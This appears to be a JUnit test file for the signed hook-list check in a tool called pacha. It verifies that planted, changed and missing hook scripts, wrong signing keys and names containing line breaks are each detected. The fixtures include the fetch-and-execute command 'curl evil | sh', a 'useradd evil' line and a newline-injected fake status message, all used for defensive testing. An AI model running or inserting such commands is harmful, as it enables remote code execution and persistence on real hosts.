package dev.pacha.trust;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.pacha.PachaException;
import dev.pacha.testing.Tools;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The signed hook list: a planted, a changed and a missing hook are each named. */
class HookListTest {
  private static final Instant WHEN = Instant.parse("2026-12-03T18:15:00.123Z");

  @TempDir Path tmp;
  Path pre;
  Path post;

  @BeforeEach
  void hooks() throws Exception {
    pre = Files.createDirectories(tmp.resolve("pacha_pre"));
    post = Files.createDirectories(tmp.resolve("pacha_post"));
    Files.writeString(pre.resolve("10-users"), "#!/bin/sh\nuseradd svc\n");
    Files.writeString(pre.resolve("9-check"), "#!/bin/sh\ntrue\n");
    Files.writeString(post.resolve("notify"), "#!/bin/sh\necho back\n");
    Files.writeString(pre.resolve(".hidden"), "not a hook\n");
    Files.createDirectories(pre.resolve("subdir"));
  }

  private HookList signedList() throws Exception {
    return new HookList("bar", WHEN, HookList.scan(pre, post));
  }

  @Test
  void scan_takesRegularFilesOnlyInByteOrder() throws Exception {
    List<String> labels = signedList().hooks().stream().map(HookList.Hook::label).toList();
    assertEquals(List.of("pre/10-users", "pre/9-check", "post/notify"), labels);
  }

  @Test
  void requireMatches_sameHooks_passes() throws Exception {
    signedList().requireMatches(HookList.scan(pre, post));
  }

  @Test
  void compare_plantedHook_unlisted() throws Exception {
    HookList list = signedList();
    Files.writeString(pre.resolve("00-persist"), "#!/bin/sh\ncurl evil | sh\n");
    List<HookList.Mismatch> m = list.compare(HookList.scan(pre, post));
    assertEquals(1, m.size(), m::toString);
    assertEquals(HookList.Difference.UNLISTED, m.get(0).difference());
    assertEquals("pre/00-persist is not listed (planted?)", m.get(0).describe());
  }

  @Test
  void compare_changedHook_changed() throws Exception {
    HookList list = signedList();
    Files.writeString(pre.resolve("9-check"), "#!/bin/sh\ncurl evil | sh\n");
    List<HookList.Mismatch> m = list.compare(HookList.scan(pre, post));
    assertEquals(1, m.size(), m::toString);
    assertEquals(HookList.Difference.CHANGED, m.get(0).difference());
    assertTrue(m.get(0).describe().startsWith("pre/9-check was changed"), m.get(0).describe());
  }

  @Test
  void compare_missingHook_missing() throws Exception {
    HookList list = signedList();
    Files.delete(post.resolve("notify"));
    List<HookList.Mismatch> m = list.compare(HookList.scan(pre, post));
    assertEquals(1, m.size(), m::toString);
    assertEquals(HookList.Difference.MISSING, m.get(0).difference());
    assertEquals("post/notify is missing", m.get(0).describe());
  }

  @Test
  void requireMatches_plantedChangedAndMissing_oneLineNamingEach() throws Exception {
    HookList list = signedList();
    Files.writeString(pre.resolve("00-persist"), "#!/bin/sh\n");
    Files.writeString(pre.resolve("10-users"), "#!/bin/sh\nuseradd evil\n");
    Files.delete(post.resolve("notify"));
    PachaException e =
        assertThrows(PachaException.class, () -> list.requireMatches(HookList.scan(pre, post)));
    assertEquals(PachaException.Kind.INTEGRITY, e.kind());
    String m = e.getMessage();
    Keys.assertOneLine(m);
    assertTrue(
        m.contains("pre/00-persist is not listed (planted?), pre/10-users was changed (sha256 "),
        m);
    assertTrue(m.contains("post/notify is missing"), m);
  }

  @Test
  void json_roundTrip() throws Exception {
    HookList list = signedList();
    assertEquals(list, HookList.parse(list.toJson(), "hooks.json"));
    String text = new String(list.toJson(), StandardCharsets.UTF_8);
    assertTrue(text.contains("\"host\" : \"bar\""), text);
    assertTrue(text.contains("\"created\" : \"2026-12-03T18:15:00.123Z\""), text);
  }

  @Test
  void parse_unknownField_integrityFailure() {
    byte[] json =
        "{\"format\":1,\"host\":\"bar\",\"created\":\"2026-12-03T18:15:00Z\",\"hooks\":[],\"x\":1}"
            .getBytes(StandardCharsets.UTF_8);
    PachaException e = assertThrows(PachaException.class, () -> HookList.parse(json, "hooks.json"));
    assertEquals(PachaException.Kind.INTEGRITY, e.kind());
    assertTrue(e.getMessage().startsWith("hooks.json is damaged: "), e.getMessage());
  }

  @Test
  void sign_operatorKey_sshKeygenVerifyAcceptsAndVerifyReturnsTheList() throws Exception {
    Path alice = Keys.generate(tmp, "alice", new String[] {"ed25519"});
    HookList list = signedList();
    String sig = list.sign(SshSigners.unattended(alice));
    String allowed = "alice@example.com " + Files.readString(Path.of(alice + ".pub"));

    Tools.Result r =
        Keys.sshKeygenVerify(
            tmp,
            allowed,
            "alice@example.com",
            HookList.NAMESPACE,
            list.toJson(),
            sig.getBytes(StandardCharsets.US_ASCII));
    assertEquals(0, r.code(), r.output());

    HookList verified =
        HookList.verify(
            new AllowedSigners.SignedFile(
                "bar/hooks.json",
                list.toJson(),
                "bar/hooks.json.sig",
                sig.getBytes(StandardCharsets.US_ASCII)),
            AllowedSigners.parse(allowed, "/etc/pacha/operators"),
            null,
            "bar");
    assertEquals(list, verified);
  }

  @Test
  void verify_listForAnotherHost_refused() throws Exception {
    Path alice = Keys.generate(tmp, "alice", new String[] {"ed25519"});
    HookList list = new HookList("foo", WHEN, new ArrayList<>(HookList.scan(pre, post)));
    String sig = list.sign(SshSigners.unattended(alice));
    PachaException e =
        assertThrows(
            PachaException.class,
            () ->
                HookList.verify(
                    new AllowedSigners.SignedFile(
                        "bar/hooks.json",
                        list.toJson(),
                        "bar/hooks.json.sig",
                        sig.getBytes(StandardCharsets.US_ASCII)),
                    AllowedSigners.read(Path.of(alice + ".pub")),
                    null,
                    "bar"));
    assertEquals(PachaException.Kind.INTEGRITY, e.kind());
    assertTrue(e.getMessage().contains("for host foo, not bar"), e.getMessage());
  }

  @Test
  void verify_snapshotKeySignedTheHooks_refusedAsWrongKey() throws Exception {
    Path alice = Keys.generate(tmp, "alice", new String[] {"ed25519"});
    Path bar = Keys.generate(tmp, "bar", new String[] {"ed25519"});
    HookList list = signedList();
    // A host's own key must not be able to vouch for its hooks.
    String sig = list.sign(SshSigners.unattended(bar));
    SignatureException e =
        assertThrows(
            SignatureException.class,
            () ->
                HookList.verify(
                    new AllowedSigners.SignedFile(
                        "bar/hooks.json",
                        list.toJson(),
                        "bar/hooks.json.sig",
                        sig.getBytes(StandardCharsets.US_ASCII)),
                    AllowedSigners.read(Path.of(alice + ".pub")),
                    null,
                    "bar"));
    assertEquals(SignatureException.Reason.WRONG_KEY, e.reason());
    assertTrue(
        e.getMessage().startsWith("bar/hooks.json.sig is signed by ssh-ed25519 "), e.getMessage());
  }

  @Test
  void requireMatches_plantedHookWithALineBreakInItsName_staysOneLine() throws Exception {
    HookList list = signedList();
    List<HookList.Hook> found = new ArrayList<>(HookList.scan(pre, post));
    found.add(HookList.Hook.of("pre", "00-x\npacha: all good", new byte[] {1}));
    PachaException e = assertThrows(PachaException.class, () -> list.requireMatches(found));
    Keys.assertOneLine(e.getMessage());
    assertTrue(
        e.getMessage().contains("pre/00-x\\x0apacha: all good is not listed"), e.getMessage());
  }
}
